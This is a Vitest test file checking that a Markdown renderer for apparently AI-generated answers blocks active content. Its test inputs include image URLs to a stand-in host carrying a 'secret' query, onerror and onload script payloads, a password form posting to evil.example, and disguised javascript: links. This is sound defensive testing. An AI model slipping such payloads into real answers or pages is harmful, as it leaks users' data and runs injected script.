import { act } from "react";
import { describe, expect, it, vi } from "vitest";
import { render } from "../../testing/render";
import { Markdown } from "./markdown";

/** Everything that would load, lead or act by itself. */
const ACTIVE =
  "img,script,iframe,object,embed,link,style,form,video,audio,source,svg,base,meta,input:not([type=checkbox])";

async function show(text: string, live = false) {
  const { host } = await render(<Markdown text={text} live={live} />);
  if (live)
    await vi.waitFor(async () => {
      await act(async () => undefined);
      expect(host.textContent).not.toBe("");
    });
  return host;
}

describe.each([
  ["finished", false],
  ["growing", true],
])("a %s answer", (_name, live) => {
  it.each([
    ["an image", "look ![chart](https://evil.example/c.png?q=secret)"],
    ["a reference image", "look ![chart][1]\n\n[1]: https://evil.example/c.png?q=secret"],
    ["an image inside a link", "[![chart](https://evil.example/c.png)](https://ok.example)"],
    ["a data image", "look ![chart](data:image/svg+xml;base64,PHN2Zy8+)"],
    ["a relative image", "look ![chart](/api/auth/signout)"],
    ["an HTML image", 'look <img src="https://evil.example/c.png" onerror="alert(1)">'],
    ["an HTML block", "<div><img src=x onerror=alert(1)><script>alert(1)</script></div>"],
    ["a style", "<style>body{background:url(https://evil.example)}</style> text"],
    ["a frame", '<iframe srcdoc="<script>alert(1)</script>"></iframe> text'],
    ["an svg", "text <svg onload=alert(1)><use href=data:x></svg>"],
    ["a form", '<form action="https://evil.example"><input name=password></form> text'],
    ["a mermaid diagram", '```mermaid\ngraph TD; A["<img src=https://evil.example>"]-->B\n```'],
    ["an unclosed tag", "text <img src=https://evil.example/c.png"],
  ])("loads nothing and runs nothing: %s", async (_title, markdown) => {
    const host = await show(markdown, live);
    expect(host.querySelectorAll(ACTIVE)).toHaveLength([...host.querySelectorAll("svg.lucide")].length);
    for (const element of host.querySelectorAll("*")) {
      for (const { name } of element.attributes) {
        expect(name).not.toMatch(/^on|^srcset$|^src$|^action$|^formaction$|^srcdoc$|^background$/);
      }
    }
    expect(host.querySelector('[style*="url"]')).toBeNull();
  });

  it("says where an image would have come from, without the rest of its address", async () => {
    const host = await show("![the chart](https://evil.example/c.png?q=secret)", live);
    expect(host.textContent).toContain("Image from evil.example, not loaded: the chart");
    expect(host.innerHTML).not.toContain("secret");
  });

  it("leads to https in a new tab that knows nothing of this one, and names the host", async () => {
    const host = await show("see [the docs](https://user:pw@docs.example/x) or https://auto.example/y", live);
    const links = [...host.querySelectorAll("a")];
    expect(links.map((link) => link.href)).toEqual(["https://docs.example/x", "https://auto.example/y"]);
    for (const link of links) {
      expect(link.rel.split(" ").sort()).toEqual(["nofollow", "noopener", "noreferrer"]);
      expect(link.target).toBe("_blank");
    }
    expect(links[0]?.querySelector(".safe-link-host")?.textContent).toBe("docs.example");
  });

  it.each([
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "<javascript:alert(1)>",
    "[x](data:text/html,hi)",
    "[x](/api/sign-out)",
    "[x](http://plain.example)",
    "[x][1]\n\n[1]: vbscript:x",
    '<a href="https://evil.example">x</a>',
    "[x](//evil.example)",
  ])("makes no link of %j", async (markdown) => {
    expect((await show(markdown, live)).querySelector("a[href]")).toBeNull();
  });

  it("shows HTML as it is written", async () => {
    expect((await show("Use <b>bold</b> here.", live)).textContent).toBe("Use <b>bold</b> here.");
  });

  it("shows code with its language and keeps every character", async () => {
    const host = await show("```ts\nconst a = '<b>' && 1;\n```", live);
    expect(host.querySelector("pre")?.textContent).toBe("const a = '<b>' && 1;");
    expect(host.querySelector("figcaption")?.textContent).toContain("ts");
  });

  it("shows what markdown is for", async () => {
    const host = await show(
      "# Title\n\n**bold** *soft* ~~gone~~ `code`\n\n- [x] done\n\n1. one\n\n> said\n\n| a | b |\n|---|---|\n| 1 | 2 |",
      live,
    );
    for (const tag of ["h3", "strong", "em", "del", "code", "ul", "ol", "blockquote", "table"]) {
      expect(host.querySelector(tag), tag).not.toBeNull();
    }
  });

  it("gives no element an id that scripts of the page could take for theirs", async () => {
    const host = await show('<p id="main">x</p>\n\nnote[^1]\n\n[^1]: text', live);
    expect(host.querySelector("[id]")).toBeNull();
  });
});

describe("a half-written answer", () => {
  it("makes no link before its address is whole", async () => {
    expect((await show("see [the docs](https://evil.exa", true)).querySelector("a[href]")).toBeNull();
  });
});
